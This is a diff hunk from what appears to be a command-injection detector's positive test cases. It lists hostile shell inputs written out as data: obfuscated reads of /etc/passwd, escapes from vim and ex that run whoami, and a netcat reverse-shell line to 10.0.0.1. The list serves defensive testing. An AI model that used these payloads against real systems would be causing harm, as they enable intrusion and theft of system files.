@@ -133,7 +133,7 @@ WSG_TEST(cmdi_positives)
 		"& for /f \\\"delims=\\\" %i in ('cmd /c \\\"set /a (6+2)\\\"') do @set /p = x",
 		"cat /[?]tc/pa[?]swd", "cat /etc/[p//]asswd", "cat+/et*/*wd", "/?\?\?/?s",
 		"x;/bin/ca?+/et*/passwd", "x.com;c$*at+/et$*c/pas$*swd",
-		"\\necho injectx\\nexit", "\\n/usr/bin/id\\n", "which gcc", "which nc wget",
+		"\\necho injectx\\nexit", "\\n/usr/bin/id\\n", ";which gcc", "which ncat", "which python3",
 		"time; ansible all -m ping", "cd /;cd etc;column passwd",
 		";vim dddd  silent\\\\ \\!whoami  wq", ";ex -c:\\!pwd",
 		";\\n.shell nc 10.0.0.1 66 -e sh", "1;.\\\"shell whoami", "{cat,/etc/passwd}",
